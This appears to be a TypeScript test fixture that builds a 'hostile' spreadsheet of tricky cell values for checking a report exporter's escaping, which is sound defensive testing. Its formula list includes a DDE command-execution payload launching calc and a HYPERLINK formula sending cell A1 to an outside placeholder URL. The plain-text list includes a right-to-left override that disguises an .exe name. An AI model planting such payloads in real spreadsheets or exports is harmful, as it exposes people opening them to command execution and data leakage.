/** Cells that spreadsheets like to make something else of, or that a file could be broken with. */
import { type Cell, day, number, type Sheet, score, share, text } from '../../../src/report/tables/sheet.ts';

/** Begin like a formula. */
export const FORMULAS = [
  '=HYPERLINK("https://example.org/?"&A1,"Read me")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1',
  '+32 (fictional)',
  '-1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=',
  '-',
  '=A1;B1',
  '=1+1";"=2+2',
];
/** Look like a number, a day or a truth. */
export const FIGURES = [
  '0012',
  '12',
  '1e5',
  '1E5',
  '1,234',
  '27.4',
  '27,4',
  '50 %',
  '€ 12',
  '1-2',
  '1/2',
  '2026-11-23',
  '23.11.2026',
  '12:30',
  '12:30 pm',
  '(12)',
  '١٢',
  'MAR-1',
  'Sep-02',
  '1 mei 2026',
  'déc. 2026',
  'okt-3',
  'TRUE',
  'false',
  'WAAR',
];
/** Are what they are. */
export const PLAIN = [
  'Plain words',
  'a;b,c\td',
  'with "quotes" and \'apostrophes\'',
  "'quoted",
  "''",
  'two\nlines',
  'two\r\nlines\rthree',
  ' spaces before and behind ',
  '<b>&amp;</b> ]]> &#65;',
  '_x0041_ is no A',
  '_x005F_ is no _',
  'control \u0000\u0001\u0008\u000b\u001f\u007f here',
  'right to left \u202egnp.exe\u202c and \u2066isolated\u2069',
  'half \ud800 a character, and no character \uffff\ufffe',
  'whole 🚢 characters',
  'Ünïcödé žluťoučký κόσμος 港',
  'a = b',
  'R&D - 5',
  'Article 5',
  'March of progress',
  '5 copies',
  'x'.repeat(32_767),
  'y'.repeat(32_768),
  `${'z'.repeat(32_762)}🚢${'z'.repeat(10)}`,
  '#REF!',
  'null',
];
export const TEXTS = [...FORMULAS, ...FIGURES, ...PLAIN];

const NUMBERS = [0, -0.5, -5, 27.4, 1e-7, 123456789.125, 1e21, 33.24324324324324, -1];

/** A sheet of all of them, a text a row; figures beside them as long as there are some. */
export function hostileSheet(name = 'Hostile'): Sheet {
  const beside = (i: number): readonly Cell[] => [
    number(NUMBERS[i]),
    score(NUMBERS[i]),
    share(i < 3 ? i / 3 : undefined),
    day(['2026-11-23', '1900-03-01', '1850-01-02', '9999-12-31', 'soon'][i]),
  ];
  return {
    name,
    columns: [
      { head: '=Text', width: 40 },
      { head: 'Number', width: 12 },
      { head: 'Score', width: 12 },
      { head: 'Share', width: 12 },
      { head: 'Day', width: 12 },
    ],
    rows: TEXTS.map((one, i) => [text(one), ...beside(i)]),
  };
}
